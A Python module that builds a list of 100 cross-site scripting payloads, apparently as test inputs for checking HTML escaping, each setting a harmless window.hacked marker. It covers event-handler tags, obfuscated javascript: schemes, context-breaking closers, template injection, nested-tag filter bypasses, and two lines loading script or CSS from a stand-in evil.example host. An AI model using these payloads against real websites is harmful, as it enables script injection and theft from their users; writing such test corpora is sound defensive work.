"""A hundred texts that become a script where somebody forgets to escape: each would set `window.hacked`."""

from __future__ import annotations

from collections.abc import Iterator

DO = "window.hacked=1"
TAGS = ("img src=x", "svg", "video src=x", "audio src=x", "body", "details open", "input autofocus", "iframe", "object data=x", "marquee")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart")
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "vbscript:", "data:text/html,<script>", " javascript:", "javascript&colon;")
BREAKS = ('"', "'", "`", ">", "-->", "]]>", "*/", "</textarea>", "</title>", "</style>", "</script>", "</pre>", "\\", "${", "{{", "%3E")


def made() -> Iterator[str]:
    yield f"<script>{DO}</script>"
    yield f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{DO}</script>"
    yield f"<scr<script>ipt>{DO}</scr</script>ipt>"
    yield f"<svg><script>{DO}</script></svg>"
    yield f"<math><mtext></mtext><mglyph><style><img src=x onerror={DO}></style></mglyph></math>"
    for tag in TAGS:
        for event in EVENTS:
            yield f"<{tag} {event}={DO}>"
    for scheme in SCHEMES:
        yield f"{scheme}{DO}"
        yield f'<a href="{scheme}{DO}" id=x>x</a>'
    for end in BREAKS:
        yield f"{end}><script>{DO}</script>"
        yield f"{end} onmouseover={DO} x="
    yield "{{constructor.constructor('" + DO + "')()}}"
    yield "${" + DO + "}"
    yield f"<form action=javascript:{DO}><button>x</button></form>"
    yield f"<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css><p style=x:expression({DO})>"
    yield f"<meta http-equiv=refresh content='0;url=javascript:{DO}'>"
    yield f"\u202e<img src=x onerror={DO}>\u0000".replace("\u0000", "\ufffd")
    yield f"&lt;img src=x onerror={DO}&gt;"


PAYLOADS = tuple(made())[:100]
